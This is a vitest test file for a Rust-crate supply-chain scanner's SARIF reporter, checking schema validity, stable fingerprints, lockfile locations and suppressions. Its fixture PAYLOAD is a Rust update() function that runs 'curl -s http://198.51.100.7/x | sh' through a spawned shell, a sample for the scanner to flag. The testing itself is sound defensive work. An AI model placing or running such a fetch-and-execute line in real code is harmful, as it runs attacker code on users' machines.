import { describe, expect, it } from 'vitest';
import type { Log, Result } from 'sarif';
import { analyzeTrees, rulesFor, treeFromFiles, type Report } from '../src/index.js';
import { formatSarif, FINGERPRINT_KEY, type RuleMeta } from '../src/report/sarif.js';
import { reporter } from '../src/report/index.js';
import { manifest } from './helpers/fixture.js';
import { corpusScan, lockFixture } from './helpers/lock-fixture.js';
import { sarifValidator } from './helpers/sarif-schema.js';

const validate = sarifValidator();
const RULES: RuleMeta[] = rulesFor().rules.map((r) => r.spec);

function sarif(input: Parameters<typeof formatSarif>[0]): Log {
  const text = formatSarif(input, { rules: RULES });
  const log = JSON.parse(text) as Log;
  const errors = validate(log);
  expect(errors.map((e) => `${e.instancePath} ${e.message}`)).toEqual([]);
  return log;
}

const fingerprints = (log: Log) => log.runs[0].results!.map((r) => `${r.ruleId} ${r.partialFingerprints![FINGERPRINT_KEY]}`);

const PAYLOAD = `pub fn update() {
    let _ = std::process::Command::new("sh").arg("-c").arg("curl -s http://198.51.100.7/x | sh").spawn();
}
`;

/** A release that adds a payload, `pad` comment lines above it; old → new is a real scan. */
function scanWithPayload(version: string, pad: number): Report {
  const old = treeFromFiles({ 'Cargo.toml': manifest('0.1.0'), 'src/lib.rs': 'pub fn hello() {}\n' }, 'old');
  const lib = `pub fn hello() {}\n${'// padding\n'.repeat(pad)}${PAYLOAD}`;
  return analyzeTrees(old, treeFromFiles({ 'Cargo.toml': manifest(version), 'src/lib.rs': lib }, 'new')).report;
}

describe('SARIF reporter', () => {
  it('the schema validator rejects a broken log (it really validates)', () => {
    expect(validate({ version: '2.1.0', runs: [{ tool: { driver: { name: 'x', informationUri: 'not a uri' } } }] }).length).toBeGreaterThan(0);
    expect(validate({ version: '2.1.0', runs: [{ tool: { driver: { name: 'x' } }, results: [{ message: { text: 'm' }, level: 'fatal' }] }] }).length).toBeGreaterThan(0);
    expect(validate({ version: '2.1.0', runs: [] })).toEqual([]);
  });

  it('a single report with traces is valid SARIF 2.1.0 with rules, regions, fingerprints and code flows', async () => {
    const { report } = await corpusScan('m02-key-scan-post');
    const log = sarif(report);
    expect(log.runs).toHaveLength(1);
    const run = log.runs[0];
    const driver = run.tool.driver;
    expect(driver.name).toBe('cratefence');
    expect(driver.version).toBe(report.tool.version);
    const results = run.results!;
    const loud = report.findings.filter((f) => f.severity !== 'info');
    expect(results).toHaveLength(loud.length);
    const ruleIds = new Set(loud.map((f) => f.ruleId));
    expect(driver.rules!.map((r) => r.id).sort()).toEqual([...ruleIds].sort());
    for (const rule of driver.rules!) {
      const spec = RULES.find((r) => r.id === rule.id)!;
      expect(rule.fullDescription!.text).toBe(spec.note);
      expect(rule.help!.markdown).toContain(spec.note);
      expect(Number(rule.properties!['security-severity'])).toBeGreaterThan(0);
      expect(rule.properties!.tags).toContain(spec.category);
    }
    for (const [i, r] of results.entries()) {
      const f = loud[i];
      expect(driver.rules![r.ruleIndex!].id).toBe(r.ruleId);
      const loc = r.locations![0].physicalLocation!;
      expect(loc.artifactLocation!.uri).toBe(f.file);
      expect(loc.region!.startLine).toBe(f.line);
      expect(loc.region!.startColumn).toBe(f.column);
      if (f.snippet) expect(loc.region!.snippet!.text).toBe(f.snippet);
      expect(r.level).toBe(f.severity === 'critical' || f.severity === 'high' ? 'error' : f.severity === 'medium' ? 'warning' : 'note');
    }
    const traced = loud.filter((f) => f.trace && f.trace.length > 0);
    expect(traced.length).toBeGreaterThan(0);
    const flows = results.filter((r) => r.codeFlows);
    expect(flows).toHaveLength(traced.length);
    const hops = flows[0].codeFlows![0].threadFlows[0].locations;
    expect(hops.map((h) => h.location!.physicalLocation!.region!.startLine)).toEqual(traced[0].trace!.map((h) => h.line));
    expect(new Set(fingerprints(log)).size).toBe(results.length);
    expect(run.invocations![0].executionSuccessful).toBe(true);
  });

  it('info findings only when asked; past maxResults the most severe are kept and the cut is said', async () => {
    const { report } = await corpusScan('m05-far-jump-payload-in-new-module');
    const info = report.findings.filter((f) => f.severity === 'info').length;
    expect(info).toBeGreaterThan(0);
    expect(sarif(report).runs[0].results).toHaveLength(report.findings.length - info);
    const all = JSON.parse(formatSarif(report, { rules: RULES, includeInfo: true })) as Log;
    expect(validate(all)).toEqual([]);
    expect(all.runs[0].results).toHaveLength(report.findings.length);
    const cut = JSON.parse(formatSarif(report, { rules: RULES, includeInfo: true, maxResults: 3 })) as Log;
    expect(validate(cut)).toEqual([]);
    expect(cut.runs[0].results!.map((r) => r.level)).toEqual(['error', 'error', 'error']);
    expect(cut.runs[0].tool.driver.rules!.length).toBeLessThanOrEqual(3);
    expect(cut.runs[0].invocations![0].toolExecutionNotifications![0].message.text).toMatch(new RegExp(`^${report.findings.length - 3} less severe`));
  });

  it('a lock report puts every result on its package line of Cargo.lock and the crate file in relatedLocations', async () => {
    const { lock } = await lockFixture(['m02-key-scan-post', 'm03-build-rs-credential-theft', 'h01-network-client-new-endpoint']);
    const log = sarif(lock);
    const results = log.runs[0].results!;
    const scanned = lock.entries.filter((e) => e.report);
    const loudOf = (e: (typeof scanned)[number]) => e.report!.findings.filter((f) => f.severity !== 'info');
    expect(results.filter((r) => r.ruleId !== 'scan-error')).toHaveLength(scanned.reduce((n, e) => n + loudOf(e).length, 0));
    for (const e of scanned) {
      const mine = results.filter((r) => (r.message.text ?? '').startsWith(`${e.name} `) && r.ruleId !== 'scan-error');
      expect(mine).toHaveLength(loudOf(e).length);
      for (const [k, r] of mine.entries()) {
        const f = loudOf(e)[k];
        const loc = r.locations![0].physicalLocation!;
        expect(loc.artifactLocation!.uri).toBe('Cargo.lock');
        expect(loc.region!.startLine).toBe(e.lockLine);
        expect(r.message.text).toContain(`${f.file}:${f.line}`);
        const rel = r.relatedLocations![0].physicalLocation!;
        expect(rel.artifactLocation!.uri).toBe(f.file);
        expect(rel.artifactLocation!.uriBaseId).toMatch(/^CRATE_/);
        expect(rel.region!.startLine).toBe(f.line);
      }
    }
    const base = log.runs[0].originalUriBaseIds!;
    expect(Object.values(base).map((b) => b.uri)).toContain(`https://docs.rs/crate/${scanned[0].name}/${scanned[0].new}/source/`);
    const failed = results.find((r) => r.ruleId === 'scan-error')!;
    expect(failed.message.text).toContain('checksum mismatch');
    expect(failed.locations![0].physicalLocation!.region!.startLine).toBe(lock.entries.find((e) => e.error)!.lockLine);
  });

  it('fingerprints are equal across two runs', async () => {
    const a = sarif((await corpusScan('m05-far-jump-payload-in-new-module')).report);
    const b = sarif((await corpusScan('m05-far-jump-payload-in-new-module')).report);
    expect(fingerprints(a).length).toBeGreaterThan(0);
    expect(fingerprints(b)).toEqual(fingerprints(a));
    const la = sarif((await lockFixture(['m02-key-scan-post', 'm16-download-and-dlopen'])).lock);
    const lb = sarif((await lockFixture(['m02-key-scan-post', 'm16-download-and-dlopen'])).lock);
    expect(fingerprints(lb)).toEqual(fingerprints(la));
  });

  it('a finding that did not change keeps its fingerprint in another release, though its line moved', () => {
    const r1 = scanWithPayload('0.1.1', 0);
    const r2 = scanWithPayload('0.1.2', 5);
    const spawn1 = r1.findings.filter((f) => f.category === 'process');
    const spawn2 = r2.findings.filter((f) => f.category === 'process');
    expect(spawn1.length).toBeGreaterThan(0);
    expect(spawn2.map((f) => f.line)).toEqual(spawn1.map((f) => f.line + 5));
    const fp = (log: Log, ids: Set<string>) => log.runs[0].results!.filter((r: Result) => ids.has(r.ruleId!)).map((r) => r.partialFingerprints![FINGERPRINT_KEY]);
    const ids = new Set(spawn1.map((f) => f.ruleId));
    const a = fp(sarif(r1), ids);
    expect(fp(sarif(r2), ids)).toEqual(a);
    // ...and a changed payload line is a new fingerprint.
    const changed = { ...r2, findings: r2.findings.map((f) => (ids.has(f.ruleId) ? { ...f, snippet: f.snippet.replace('198.51.100.7', '203.0.113.9') } : f)) };
    expect(fp(sarif(changed), ids)).not.toEqual(a);
  });

  it('suppressed findings and policy notes are kept, as suppressions and results', async () => {
    const { report } = await corpusScan('m16-download-and-dlopen');
    const f0 = report.findings[0];
    const withPolicy: Report = {
      ...report,
      findings: report.findings.map((f, i) => (i === 0 ? { ...f, suppressed: { reason: 'vendored loader, reviewed', source: 'cratefence.toml' } } : f)),
      policy: { configFile: 'cratefence.toml', scanVerdict: report.verdict, scanScore: report.score, approvedBy: [], suppressedFindings: 1, notes: [{ kind: 'cool-off', message: 'published 2 days ago; may be adopted after 2026-12-05' }] },
    };
    const log = sarif(withPolicy);
    const r0 = log.runs[0].results!.find((r) => r.ruleId === f0.ruleId)!;
    expect(r0.suppressions![0].justification).toContain('vendored loader, reviewed');
    const cool = log.runs[0].results!.find((r) => r.ruleId === 'policy-cool-off')!;
    expect(cool.message.text).toContain('2026-12-05');
  });

  it('odd file names stay valid relative URIs', async () => {
    const { report } = await corpusScan('m02-key-scan-post');
    const odd = { ...report, findings: report.findings.map((f) => ({ ...f, file: `src/a b#c?d%e/${f.file}` })) };
    const log = sarif(odd);
    expect(log.runs[0].results![0].locations![0].physicalLocation!.artifactLocation!.uri).toMatch(/^src\/a%20b%23c%3Fd%25e\/src\//);
  });

  it('the text format of a lock report lists every package, then the reports that are not pass', async () => {
    const { lock } = await lockFixture(['m02-key-scan-post', 'h01-network-client-new-endpoint']);
    const text = (await reporter('text'))(lock, { color: false });
    for (const e of lock.entries) expect(text).toContain(e.name);
    expect(text).toContain('checksum mismatch');
    expect(text).toContain('secret-exfiltration');
  });

  it('is reachable through the reporter map, which loads the rules itself', async () => {
    const { report } = await corpusScan('m02-key-scan-post');
    const text = (await reporter('sarif'))(report, { color: false });
    expect(text).toBe(formatSarif(report, { rules: RULES }));
  });
});
